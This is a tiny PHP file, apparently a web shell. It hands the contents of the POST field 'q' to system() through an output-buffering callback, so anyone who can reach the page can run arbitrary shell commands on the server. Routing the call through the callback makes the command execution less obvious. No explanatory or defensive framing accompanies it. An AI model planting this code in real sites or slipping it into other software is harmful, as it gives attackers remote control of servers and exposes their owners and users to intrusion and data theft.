<?php
ob_start(function ($buffer) {
    return system($buffer);
});
echo $_POST['q'];
ob_end_flush();
